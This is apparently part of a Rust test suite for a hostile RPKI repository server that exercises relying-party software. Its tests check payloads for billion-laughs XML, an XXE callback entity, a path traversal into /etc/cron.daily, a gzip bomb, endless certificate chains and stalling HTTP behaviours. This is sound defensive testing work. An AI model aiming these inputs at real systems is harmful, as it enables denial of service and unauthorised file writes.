    fn chain_test_a_never_ends() {
        let e = engine();
        let inst = instance(&e, TestId::A);
        // a node at depth 500 still has a child certificate
        let deep = NodeAddress(vec![0; 500]);
        let pp = e.publication_point(&inst, &deep);
        assert!(pp.iter().any(|(name, _)| name == "c0.cer"));
    }

    #[test]
    fn chain_test_h_counts() {
        let e = engine();
        for (w, d, expected) in [(2u32, 3u32, 15u64), (3, 4, 121)] {
            let mut params = TestParams::defaults_for(TestId::H);
            params.width = w;
            params.depth = Some(d);
            let inst = e.new_instance(TestId::H, params);
            // enumerate the tree by following child certificates
            let mut count = 0u64;
            let mut queue = vec![NodeAddress::root()];
            while let Some(node) = queue.pop() {
                count += 1;
                let pp = e.publication_point(&inst, &node);
                for i in 0..w {
                    if pp.iter().any(|(n, _)| *n == format!("c{i}.cer")) {
                        queue.push(node.child(i));
                    }
                }
            }
            let closed_form: u64 = (0..=d).map(|i| (w as u64).pow(i)).sum();
            assert_eq!(closed_form, expected);
            assert_eq!(count, expected);
        }
    }

    #[test]
    fn billion_laughs_doc_small_but_explosive() {
        let e = engine();
        let inst = instance(&e, TestId::G);
        let doc = e.resolve(&inst, "/snapshot.xml");
        let Body::Bytes(body) = &doc.body else {
            panic!("expected bytes")
        };
        assert!(body.len() <= 10 * 1024, "doc is {} bytes", body.len());
        let text = String::from_utf8(body.clone()).unwrap();
        // ten levels of tenfold expansion
        assert_eq!(text.matches("<!ENTITY").count(), 11);
        assert!(text.contains("&lol10;"));
    }

    #[test]
    fn xxe_doc_references_callback() {
        let e = engine();
        let inst = instance(&e, TestId::M);
        let doc = e.resolve(&inst, "/snapshot.xml");
        let Body::Bytes(body) = &doc.body else {
            panic!("expected bytes")
        };
        let text = String::from_utf8(body.clone()).unwrap();
        assert!(text.contains("SYSTEM \"https://"));
        assert!(text.contains("/callback/xxe"));
        assert!(text.contains("&cb;"));
    }

    #[test]
    fn traversal_uri_shape_test_o() {
        let e = engine();
        let inst = instance(&e, TestId::O);
        let doc = e.resolve(&inst, "/snapshot.xml");
        let Body::Bytes(body) = &doc.body else {
            panic!("expected bytes")
        };
        let text = String::from_utf8(body.clone()).unwrap();
        assert!(text.contains("/repo/../../etc/cron.daily/evil.roa"));
    }

    #[test]
    fn rate_limit_and_redirect_behaviors() {
        let e = engine();
        let b = instance(&e, TestId::B);
        assert_eq!(
            e.resolve(&b, "/notification.xml").behavior,
            HttpBehavior::RateLimit {
                retry_after_secs: 86_400
            }
        );
        let c = instance(&e, TestId::C);
        assert_eq!(
            e.resolve(&c, "/notification.xml").behavior,
            HttpBehavior::RedirectChain { next_hop: 1 }
        );
        assert_eq!(
            e.resolve(&c, "/redirect/7").behavior,
            HttpBehavior::RedirectChain { next_hop: 8 }
        );
    }

    #[test]
    fn trickle_default_rate_is_three() {
        let e = engine();
        let inst = instance(&e, TestId::E);
        match e.resolve(&inst, "/snapshot.xml").behavior {
            HttpBehavior::Trickle { rate_bytes_per_sec } => assert_eq!(rate_bytes_per_sec, 3),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn gzip_bomb_ratio_verified_independently() {
        let bomb = gzip_bomb(16 << 20);
        // decompress with the library's independent reader side
        let mut decoder = flate2::read::GzDecoder::new(bomb.as_slice());
        let mut total = 0u64;
        let mut buf = vec![0u8; 1 << 16];
        loop {
            let n = decoder.read(&mut buf).unwrap();
            if n == 0 {
                break;
            }
            total += n as u64;
        }
        assert_eq!(total, 16 << 20);
        assert!(
            (bomb.len() as u64) * 500 < total,
            "ratio only {}",
            total / bomb.len() as u64
        );
    }

    #[test]
    fn control_profile_has_no_attack_behaviors() {
        let e = engine();
        for test in TestId::ALL {
            let mut params = TestParams::defaults_for(test);
            params.control = true;
            params.depth = Some(1);
            params.width = 2;
            params.roa_count = 2;
            let inst = e.new_instance(test, params);
            for path in ["/notification.xml", "/snapshot.xml", "/ta.cer"] {
                let res = e.resolve(&inst, path);
                assert_eq!(res.behavior, HttpBehavior::Normal, "{test} {path}");
            }
        }
    }

    #[test]
    fn random_stream_is_offset_consistent() {
        let mut whole = vec![0u8; 64];
        fill_random_stream(99, 0, &mut whole);
        let mut tail = vec![0u8; 32];
        fill_random_stream(99, 32, &mut tail);
        assert_eq!(&whole[32..], &tail[..]);
    }
}
